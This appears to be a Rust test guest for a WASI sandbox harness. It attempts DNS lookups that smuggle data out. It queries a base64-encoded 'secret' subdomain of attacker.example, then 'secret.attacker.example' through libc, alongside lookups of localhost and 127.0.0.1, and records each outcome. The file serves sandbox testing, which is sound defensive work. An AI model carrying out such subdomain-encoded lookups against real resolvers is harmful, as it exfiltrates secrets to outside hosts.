//! Carries data out in the name of a lookup.

use std::net::ToSocketAddrs;
use tollgate_test_guests::wasi::sockets::instance_network::instance_network;
use tollgate_test_guests::wasi::sockets::ip_name_lookup::resolve_addresses;
use tollgate_test_guests::{Report, Scene};

fn attempt(_: &Scene, report: &mut Report) {
    let network = instance_network();
    report.step(
        "look up",
        resolve_addresses(&network, "c2VjcmV0.attacker.example"),
    );
    report.step(
        "look up localhost",
        resolve_addresses(&network, "localhost"),
    );
    report.step(
        "look up an address",
        resolve_addresses(&network, "127.0.0.1"),
    );
    report.step(
        "look up through the libc",
        ("secret.attacker.example", 443).to_socket_addrs(),
    );
}

tollgate_test_guests::guest!(attempt);
